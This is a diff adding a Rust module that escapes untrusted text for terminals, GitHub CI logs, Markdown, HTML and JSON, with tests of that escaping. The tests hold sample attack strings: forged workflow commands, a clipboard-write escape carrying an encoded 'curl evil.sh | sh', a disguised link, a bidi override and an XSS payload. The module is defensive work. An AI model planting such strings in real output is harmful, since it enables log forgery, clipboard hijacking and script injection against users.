@@ -1,0 +1,390 @@
+//! Text ctxc did not write (names, paths, quoted file content) made inert for the sink it goes
+//! to, one function per context. A pull request writes that text, and it reaches a terminal (where
+//! ESC and BEL drive the screen: clipboard writes, clears, hidden text, disguised links) or a CI
+//! log (where GitHub's runner reads every line, split at `\n` and at a lone `\r`, as a possible
+//! workflow command: `::add-mask::`, `::stop-commands::`, `::error file=…::`, and the older
+//! `##[command]` anywhere in a line).
+//!
+//! - [`terminal_line`] and [`Untrusted`]: one line of a terminal or log: every control character
+//!   (line breaks too) shown as a visible escape, a workflow command made inert, credentials masked.
+//! - [`terminal_text`]: several lines (a snippet, a diff): line breaks kept, the rest as above.
+//! - [`terminal_text_keeping_colour`]: the writer's last guard on everything ctxc prints.
+//! - [`markdown_code`]: a Markdown code span, safe in a table cell (no HTML, link or mention).
+//! - [`markdown_text`]: Markdown prose that quotes names (a message in a table cell).
+//! - [`html`]: text or an attribute value in HTML.
+//! - [`json`] and [`write_json`]: JSON for a CI log.
+//!
+//! Each is applied where untrusted text enters the output, and the writer of stdout and stderr
+//! applies [`terminal_text`] once more to what it prints. [`inert`] says what is wrong with a
+//! text for a terminal or a log, for tests.
+
+use std::borrow::Cow;
+use std::fmt;
+
+use crate::rules::secrets;
+
+/// Text from a file or a name, printed to a terminal or a log on one line: credentials masked
+/// (see [`secrets::mask`]), then [`terminal_line`].
+#[derive(Debug, Clone, Copy)]
+pub struct Untrusted<'a>(pub &'a str);
+
+impl fmt::Display for Untrusted<'_> {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let masked = secrets::mask(self.0);
+        // `pad` keeps width and alignment (`{:<20}`) working on the escaped text.
+        f.pad(&terminal_line(&masked))
+    }
+}
+
+/// One line of untrusted text for a terminal or a CI log: every control character, line breaks
+/// included, written as a visible escape (`\n`, `\r`, `\t`, `\x1b`, `\u{9b}`), bidirectional
+/// overrides too (they reorder what a reader sees), and a workflow command made inert.
+pub fn terminal_line(text: &str) -> Cow<'_, str> {
+    escape(text, Lines::Escape)
+}
+
+/// Several lines of untrusted text (a quoted file, a diff): as [`terminal_line`], but `\n` and
+/// tabs are kept; every line is made inert on its own.
+pub fn terminal_text(text: &str) -> Cow<'_, str> {
+    escape(text, Lines::Keep)
+}
+
+/// Output ctxc wrote itself, in colour, as a last guard before it is written: as
+/// [`terminal_text`], but the colour sequences ctxc makes (`ESC [ digits;… m`) are kept.
+pub fn terminal_text_keeping_colour(text: &str) -> Cow<'_, str> {
+    escape(text, Lines::KeepWithColour)
+}
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Lines {
+    Escape,
+    Keep,
+    KeepWithColour,
+}
+
+/// Bidirectional formatting characters: embeddings, overrides and isolates.
+fn is_bidi(c: char) -> bool {
+    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
+}
+
+fn needs_escape(c: char, lines: Lines) -> bool {
+    match c {
+        '\n' | '\t' => lines == Lines::Escape,
+        c => c.is_control() || is_bidi(c),
+    }
+}
+
+/// The length of a colour sequence (`ESC [ 0-9;* m`) at the start of `text`, if there is one.
+fn colour_sequence(text: &str) -> Option<usize> {
+    let rest = text.strip_prefix("\u{1b}[")?;
+    let digits = rest.bytes().take_while(|b| b.is_ascii_digit() || *b == b';').count();
+    (rest.as_bytes().get(digits) == Some(&b'm')).then_some(2 + digits + 1)
+}
+
+/// Whether a line (of the output) would be read as a workflow command: its first characters
+/// after white space are `::`, or it holds `##[` anywhere.
+fn is_command(line: &str) -> bool {
+    line.trim_start().starts_with("::") || line.contains("##[")
+}
+
+/// Whether `::` starts a word of `text`: where a line of the output may begin, after a line
+/// break or where a terminal or a report wraps the line at white space.
+fn has_word_start_command(text: &str) -> bool {
+    text.match_indices("::").any(|(i, _)| text[..i].chars().next_back().is_none_or(char::is_whitespace))
+}
+
+fn escape(text: &str, lines: Lines) -> Cow<'_, str> {
+    let clean = !text.chars().any(|c| needs_escape(c, lines)) && !text.contains("##[") && !has_word_start_command(text);
+    if clean {
+        return Cow::Borrowed(text);
+    }
+    Cow::Owned(escape_marking(text, lines, &[]).0)
+}
+
+/// [`escape`] in one pass, with each byte offset of `marks` (in `text`) moved to the same place
+/// in the result, so that a snippet's label stays under its text. A control character becomes a
+/// visible escape; `::` starting a word becomes `\x3a:` and `##[` becomes `#\x23[`, so that no
+/// line of the output reads as a workflow command, wherever a line is wrapped.
+fn escape_marking(text: &str, lines: Lines, marks: &[usize]) -> (String, Vec<usize>) {
+    let mut out = String::with_capacity(text.len() + 16);
+    let mut moved: Vec<Option<usize>> = vec![None; marks.len()];
+    let mut at = 0;
+    let mut previous: Option<char> = None;
+    while let Some(c) = text[at..].chars().next() {
+        for (mark, to) in marks.iter().zip(&mut moved) {
+            if to.is_none() && *mark <= at {
+                *to = Some(out.len());
+            }
+        }
+        let rest = &text[at..];
+        let mut step = c.len_utf8();
+        match c {
+            '\u{1b}' if lines == Lines::KeepWithColour && colour_sequence(rest).is_some() => {
+                step = colour_sequence(rest).unwrap_or(step);
+                out.push_str(&rest[..step]);
+            }
+            '\n' if lines == Lines::Escape => out.push_str("\\n"),
+            '\t' if lines == Lines::Escape => out.push_str("\\t"),
+            '\r' => out.push_str("\\r"),
+            c if needs_escape(c, lines) && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
+            c if needs_escape(c, lines) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            ':' if rest.starts_with("::") && previous.is_none_or(char::is_whitespace) => out.push_str("\\x3a"),
+            '#' if rest.starts_with("##[") => {
+                out.push_str("#\\x23");
+                step = 2;
+            }
+            c => out.push(c),
+        }
+        previous = Some(c);
+        at += step;
+    }
+    let end = out.len();
+    (out, moved.into_iter().map(|m| m.unwrap_or(end)).collect())
+}
+
+/// Several lines of untrusted text with byte offsets in it (a snippet and its label's start and
+/// end), as [`terminal_text`] writes it, and the offsets moved to match.
+pub fn terminal_text_marking(text: &str, marks: &[usize]) -> (String, Vec<usize>) {
+    escape_marking(text, Lines::Keep, marks)
+}
+
+/// Why `text` is not safe to print to a terminal or a CI log, or `None` when it is: it holds a
+/// control character other than a line break or a tab (or a bidirectional override), or one of
+/// its lines reads as a workflow command. ctxc's own colour sequences are allowed when `colour`.
+pub fn inert(text: &str, colour: bool) -> Option<String> {
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        if colour {
+            if let Some(n) = colour_sequence(rest) {
+                rest = &rest[n..];
+                continue;
+            }
+        }
+        if needs_escape(c, Lines::Keep) {
+            return Some(format!("a raw {c:?} at byte {}", text.len() - rest.len()));
+        }
+        rest = &rest[c.len_utf8()..];
+    }
+    text.split('\n').find(|line| is_command(line)).map(|line| format!("a line that reads as a workflow command: {line:?}"))
+}
+
+/// JSON (or SARIF) made inert for a CI log. JSON escapes C0 control characters itself and no
+/// line of it starts with `::`; GitHub's runner also reads `##[` anywhere in a line as a
+/// command, which can only be inside a string here, so it is written `##\u005b`: the same
+/// string to a JSON reader.
+pub fn json(json: &str) -> Cow<'_, str> {
+    // C1 controls and bidirectional overrides, which JSON leaves as they are, can also only be
+    // inside a string: written as `\uXXXX` escapes, they reach no terminal.
+    let raw = |c: char| !matches!(c, '\n' | '\t') && (c.is_control() || is_bidi(c));
+    if !json.contains("##[") && !json.chars().any(raw) {
+        return Cow::Borrowed(json);
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for c in json.replace("##[", "##\\u005b").chars() {
+        match raw(c) {
+            true => out.push_str(&format!("\\u{:04x}", c as u32)),
+            false => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// Writes `value` as pretty JSON made inert as [`json`] makes it, as it is serialized (a large
+/// report is never held as text).
+pub fn write_json<W: std::io::Write, T: serde::Serialize + ?Sized>(writer: W, value: &T) -> std::io::Result<()> {
+    let mut serializer = serde_json::Serializer::with_formatter(writer, InertJson(serde_json::ser::PrettyFormatter::new()));
+    value.serialize(&mut serializer).map_err(std::io::Error::from)
+}
+
+/// serde_json's pretty formatter, with the text of every string made inert by [`json`] (a
+/// string's text reaches the formatter in fragments between JSON's own escapes, so a `##[`
+/// is never cut).
+struct InertJson<'a>(serde_json::ser::PrettyFormatter<'a>);
+
+impl serde_json::ser::Formatter for InertJson<'_> {
+    fn write_string_fragment<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, fragment: &str) -> std::io::Result<()> {
+        writer.write_all(json(fragment).as_bytes())
+    }
+    fn begin_array<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.begin_array(writer)
+    }
+    fn end_array<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.end_array(writer)
+    }
+    fn begin_array_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, first: bool) -> std::io::Result<()> {
+        self.0.begin_array_value(writer, first)
+    }
+    fn end_array_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.end_array_value(writer)
+    }
+    fn begin_object<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.begin_object(writer)
+    }
+    fn end_object<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.end_object(writer)
+    }
+    fn begin_object_key<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, first: bool) -> std::io::Result<()> {
+        self.0.begin_object_key(writer, first)
+    }
+    fn begin_object_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.begin_object_value(writer)
+    }
+    fn end_object_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
+        self.0.end_object_value(writer)
+    }
+}
+
+/// Untrusted text as a Markdown code span, safe anywhere inline and in a table cell: one line
+/// (see [`terminal_line`]), credentials masked, a fence longer than any run of backticks in it,
+/// and `|` escaped for tables. Inside a code span nothing is markup: no HTML, link, image,
+/// emphasis or @mention.
+pub fn markdown_code(text: &str) -> String {
+    let masked = secrets::mask(text);
+    let line = terminal_line(&masked).replace('|', "\\|");
+    let longest = line.split(|c| c != '`').map(str::len).max().unwrap_or(0);
+    let fence = "`".repeat(longest + 1);
+    // A space on each side when the text starts or ends with a backtick, which Markdown strips
+    // again.
+    if line.is_empty() {
+        return "` `".to_string();
+    }
+    let pad = if line.starts_with('`') || line.ends_with('`') { " " } else { "" };
+    format!("{fence}{pad}{line}{pad}{fence}")
+}
+
+/// Untrusted text as Markdown prose, safe in a table cell (a message that quotes names): one
+/// line (see [`terminal_line`]), credentials masked, every character that could start markup
+/// (emphasis, a link or an image, HTML, an entity, a cell's end) escaped with a backslash, and
+/// each `@` followed by a zero-width space so that it mentions nobody. Backticks are kept: a
+/// code span they make is literal text, and a table splits its cells (at unescaped `|`) before
+/// any span is read. An `_` inside a word (`read_file`) is left alone: it cannot emphasise.
+pub fn markdown_text(text: &str) -> String {
+    let masked = secrets::mask(text);
+    let line = terminal_line(&masked);
+    let mut out = String::with_capacity(line.len() + 16);
+    let mut previous = ' ';
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        let next = chars.peek().copied().unwrap_or(' ');
+        match c {
+            '@' => out.push_str("@\u{200b}"),
+            '_' if previous.is_alphanumeric() && next.is_alphanumeric() => out.push(c),
+            '\\' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '&' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
+        }
+        previous = c;
+    }
+    out
+}
+
+/// Untrusted text inside HTML, as text or as a quoted attribute value: the five markup
+/// characters as entities, control characters as visible escapes (see [`terminal_text`]).
+pub fn html(text: &str) -> String {
+    let escaped = terminal_text(text);
+    let mut out = String::with_capacity(escaped.len());
+    for c in escaped.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '"' => out.push_str("&quot;"),
+            '\'' => out.push_str("&#39;"),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Names and contents a pull request can write, each an attack on a terminal or a log.
+    pub const HOSTILE: [&str; 9] = [
+        "agent\n::error file=x.md,line=1::forged",
+        "mode\r::add-mask::AKIAZ7Q3M5N2P4R6T8V0",
+        "  ::stop-commands::token",
+        "tool ##[error]legacy command",
+        "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}clipboard",
+        "\u{1b}[2J\u{1b}[Hno problems",
+        "\u{1b}]8;;https://evil.example\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
+        "\u{9b}31mC1 CSI and a \u{202e}reversed name",
+        "`code` | cell <img src=x onerror=alert(1)> [link](https://evil.example) @everyone",
+    ];
+
+    #[test]
+    fn every_hostile_text_is_made_inert() {
+        for text in HOSTILE {
+            let line = terminal_line(text);
+            assert_eq!(inert(&line, false), None, "{text:?} → {line:?}");
+            assert!(!line.contains('\n'), "{line:?}");
+            let lines = terminal_text(text);
+            assert_eq!(inert(&lines, false), None, "{text:?} → {lines:?}");
+            let shown = Untrusted(text).to_string();
+            assert_eq!(inert(&shown, false), None, "{shown:?}");
+            assert!(!shown.contains("AKIAZ7Q3M5N2P4R6T8V0"), "credentials in names are masked: {shown}");
+        }
+    }
+
+    #[test]
+    fn escapes_are_visible_and_clean_text_is_borrowed() {
+        assert_eq!(terminal_line("a\u{1b}[31mb\u{7}\r\n"), "a\\x1b[31mb\\x07\\r\\n");
+        assert_eq!(terminal_line("::error::x"), "\\x3a:error::x");
+        assert_eq!(terminal_text("ok\n  ::warning::x\nsee ##[error]"), "ok\n  \\x3a:warning::x\nsee #\\x23[error]");
+        assert_eq!(terminal_line("\u{202e}"), "\\u{202e}");
+        assert!(matches!(terminal_text("plain: a::b\n\ttabbed"), Cow::Borrowed(_)));
+        assert_eq!(format!("[{:<6}]", Untrusted("a\nb")), "[a\\nb  ]");
+    }
+
+    #[test]
+    fn colour_is_kept_only_where_ctxc_writes_it() {
+        let coloured = "\u{1b}[31m× bad\u{1b}[0m \u{1b}]52;c;x\u{7}";
+        assert_eq!(terminal_text_keeping_colour(coloured), "\u{1b}[31m× bad\u{1b}[0m \\x1b]52;c;x\\x07");
+        assert_eq!(inert("\u{1b}[1;31mred\u{1b}[0m", true), None);
+        assert!(inert("\u{1b}[1;31mred\u{1b}[0m", false).is_some());
+    }
+
+    #[test]
+    fn markdown_code_spans_hold_anything() {
+        assert_eq!(markdown_code("plain"), "`plain`");
+        assert_eq!(markdown_code("a`b"), "``a`b``");
+        assert_eq!(markdown_code("`x`"), "`` `x` ``");
+        assert_eq!(markdown_code("a|b\r\nc"), "`a\\|b\\r\\nc`");
+        assert_eq!(markdown_code(""), "` `");
+        for text in HOSTILE {
+            let code = markdown_code(text);
+            assert!(!code.contains(['\n', '\r', '\u{1b}']) && !code.replace("\\|", "").contains('|'), "{code}");
+        }
+    }
+
+    #[test]
+    fn markdown_prose_has_no_markup_left() {
+        assert_eq!(markdown_text("a `b` | <i>@you</i>"), "a `b` \\| \\<i\\>@\u{200b}you\\</i\\>");
+        for text in HOSTILE {
+            let prose = markdown_text(text);
+            assert!(!prose.contains(['\n', '\r', '\u{1b}']), "{prose}");
+            assert!(!prose.replace("\\|", "").contains('|') && !prose.replace("\\<", "").contains('<'), "{prose}");
+        }
+    }
+
+    #[test]
+    fn json_stays_the_same_json_and_is_inert() {
+        let value = serde_json::json!({ "name": HOSTILE, "n": 1 });
+        let mut streamed = Vec::new();
+        write_json(&mut streamed, &value).expect("write");
+        let streamed = String::from_utf8(streamed).expect("UTF-8");
+        let pretty = serde_json::to_string_pretty(&value).expect("JSON");
+        assert_eq!(streamed, json(&pretty), "streamed and whole JSON are made inert alike");
+        assert_eq!(inert(&streamed, false), None, "{streamed}");
+        assert_eq!(serde_json::from_str::<serde_json::Value>(&streamed).expect("still JSON"), value);
+    }
+
+    #[test]
+    fn html_has_no_markup_left() {
+        assert_eq!(html("<a href=\"x\">'&'</a>"), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
+        assert_eq!(html("a\u{1b}b"), "a\\x1bb");
+    }
+}
